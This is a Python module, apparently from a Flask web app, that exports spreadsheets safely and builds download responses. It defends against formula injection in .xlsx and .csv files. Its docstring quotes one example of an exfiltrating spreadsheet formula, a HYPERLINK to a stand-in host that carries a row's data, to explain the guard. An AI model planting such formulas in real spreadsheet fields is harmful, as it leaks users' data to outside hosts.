"""Every spreadsheet the app sends: one writer for .xlsx and .csv, one response for every download.

Names, question stems and case text are typed by people, and a spreadsheet program runs a cell
that starts like a formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return): a worker
named ``=HYPERLINK("http://x/?"&B3,"张娟")`` would become a link that sends the row away. So:

- in .xlsx every text cell is stored as text (``t="inlineStr"``), and text that starts like a
  formula also gets Excel's quote prefix (the style's ``quotePrefix``), so Excel shows it as text
  and never re-parses it on edit; the value reads back exactly as typed (``+86 139...``, ``-南``);
- in .csv, which has no types, such text gets a leading apostrophe (the usual guard; Excel hides
  it), and ``csv_unguard`` takes it off again when one of our own files is imported back.

One exception, written down because it is forced: an .xlsx cell cannot keep a carriage return
(XML turns it into a line feed when the file is read), so CR and CRLF are stored as the line feed
Excel itself uses for a line break. Control characters XML cannot hold at all are dropped.

``download`` builds every download response: one content type with exactly one charset (the one
the bytes are in), and a Content-Disposition with an ASCII fallback and the RFC 5987 UTF-8 name.
"""
from __future__ import annotations

import csv
import enum
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from urllib.parse import quote

from flask import Response, send_file
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# The bytes' encoding per choice offered to the user; UTF-8 carries a BOM so Excel reads Chinese.
CSV_ENCODINGS = {"utf-8": "utf-8-sig", "gb18030": "gb18030"}
TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")  # characters Excel refuses in a sheet's name
TITLE_MAX = 31
BOLD = Font(bold=True)


@dataclass(frozen=True)
class Table:
    """One sheet of a workbook: its (translated) title, the header row and the data rows."""

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence]


def runs_as_formula(value) -> bool:
    """True for text a spreadsheet program would run (or treat as a sign) if typed into a cell."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def sheet_title(title: str, taken: set[str] | None = None) -> str:
    """``title`` as Excel accepts a sheet's name: no ``[]:*?/\\``, at most 31 characters, unique."""
    base = TITLE_FORBIDDEN.sub(" ", str(title)).strip().strip("'")[:TITLE_MAX] or "Sheet"
    name, counter = base, 1
    while taken is not None and name.lower() in {t.lower() for t in taken}:
        counter += 1
        suffix = f" ({counter})"
        name = base[:TITLE_MAX - len(suffix)] + suffix
    if taken is not None:
        taken.add(name)
    return name


def _plain(value):
    """A value a cell can hold: enums by their value, aware times as ISO text, None as empty."""
    if value is None:
        return None
    if isinstance(value, enum.Enum):
        return str(value.value)
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.isoformat()  # Excel has no time zones; the text keeps the offset
    return value


def _xlsx_cell(sheet, value, bold: bool = False) -> WriteOnlyCell:
    value = _plain(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value.replace("\r\n", "\n").replace("\r", "\n"))
    cell = WriteOnlyCell(sheet, value)
    if isinstance(value, str) and value:
        cell.data_type = "s"  # openpyxl would make text starting with "=" a formula; this is text
        if value.startswith(FORMULA_START):
            cell.quotePrefix = True  # Excel shows it as text, and keeps it text when edited
    if bold:
        cell.font = BOLD
    return cell


def xlsx_bytes(tables: Sequence[Table]) -> bytes:
    """A workbook with one sheet per table (header row in bold), written row by row."""
    workbook = Workbook(write_only=True)  # streams rows: a city's registry is 100,000 rows
    taken: set[str] = set()
    for table in tables:
        sheet = workbook.create_sheet(sheet_title(table.title, taken))
        sheet.append([_xlsx_cell(sheet, header, bold=True) for header in table.headers])
        for row in table.rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_guard(value):
    """A csv field: text that would run as a formula gets a leading apostrophe; dates as ISO."""
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, date):
        return value.isoformat()
    if runs_as_formula(value):
        return "'" + value
    return value


def csv_unguard(text):
    """The field as typed, when ``csv_guard`` added an apostrophe (an export imported back)."""
    if isinstance(text, str) and text.startswith("'") and runs_as_formula(text[1:]):
        return text[1:]
    return text


def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence], encoding: str = "utf-8") -> bytes:
    """A csv file in ``encoding`` (a key of ``CSV_ENCODINGS``), every field guarded."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_guard(header) for header in headers])
    for row in rows:
        writer.writerow([csv_guard(value) for value in row])
    return buffer.getvalue().encode(CSV_ENCODINGS.get(encoding, "utf-8-sig"), errors="replace")


def content_type(filename: str, encoding: str = "utf-8") -> str | None:
    """The Content-Type of a spreadsheet by its file name (exactly one charset), None for others."""
    lower = filename.lower()
    if lower.endswith(".xlsx"):
        return XLSX
    if lower.endswith(".csv"):
        return f"text/csv; charset={encoding if encoding in CSV_ENCODINGS else 'utf-8'}"
    return None


def disposition(filename: str) -> str:
    """``attachment`` with an ASCII fallback name and the UTF-8 name of RFC 5987."""
    fallback = re.sub(r'[^A-Za-z0-9._-]+', "_", filename).strip("_") or "download"
    return f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{quote(filename, safe='')}"


def download(data: bytes | str, filename: str, *, encoding: str = "utf-8", mimetype: str | None = None) -> Response:
    """The response that sends ``data`` as the file ``filename``: .xlsx and .csv typed by name."""
    kind = content_type(filename, encoding) or mimetype or "application/octet-stream"
    # content_type= (not mimetype=): Werkzeug would append a second "charset=utf-8" to text/*.
    response = Response(data, content_type=kind)
    response.headers["Content-Disposition"] = disposition(filename)
    return response


def send_stored(path: Path, filename: str) -> Response:
    """A file written earlier (a job's result) sent as ``filename``, typed like ``download``."""
    kind = content_type(filename)
    response = send_file(path, mimetype=kind, as_attachment=True, download_name=filename, max_age=0)
    if kind:
        response.headers["Content-Type"] = kind  # as written: send_file would add utf-8 to text/csv again
    response.headers["Content-Disposition"] = disposition(filename)
    return response
